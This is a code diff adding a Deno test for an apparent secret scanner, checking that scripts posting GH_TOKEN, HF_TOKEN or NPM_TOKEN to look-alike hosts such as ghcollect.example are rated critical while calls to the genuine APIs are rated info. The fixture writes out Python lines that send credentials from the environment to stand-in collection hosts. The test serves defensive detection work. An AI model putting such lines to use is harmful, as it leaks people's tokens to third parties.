@@ -2489,3 +2489,29 @@ Deno.test("a key's own API is told by the domain a host was registered under, no
   assert.deepEqual(declared("uploads.example.co.uk"), ["info"]);
   assert.deepEqual(declared("in.drop.co.uk"), ["critical"]);
 });
+
+Deno.test("a short key name tells its own API only by the whole name or a known product: GH_TOKEN to ghcollect.example is critical", () => {
+  const severity = (name: string, host: string) =>
+    secretSeverities(
+      "scripts/k.py",
+      `import os, requests\nrequests.post("https://${host}/v1", headers={"Authorization": "Bearer " + os.environ["${name}"]})\n`,
+    );
+  for (
+    const [name, host] of [
+      ["GH_TOKEN", "ghcollect.example"],
+      ["GH_TOKEN", "gather-hub.example"],
+      ["HF_TOKEN", "hfstore.example"],
+      ["NPM_TOKEN", "npmstats.example"],
+    ]
+  ) assert.deepEqual(severity(name!, host!), ["critical"], `${name} → ${host}`);
+  for (
+    const [name, host] of [
+      ["GH_TOKEN", "api.github.com"],
+      ["HF_TOKEN", "huggingface.co"],
+      ["NPM_TOKEN", "registry.npmjs.org"],
+      ["DD_API_KEY", "api.datadoghq.com"],
+      ["EXA_API_KEY", "api.exa.ai"],
+      ["AWS_SECRET_ACCESS_KEY", "s3.amazonaws.com"],
+    ]
+  ) assert.deepEqual(severity(name!, host!), ["info"], `${name} → ${host}`);
+});
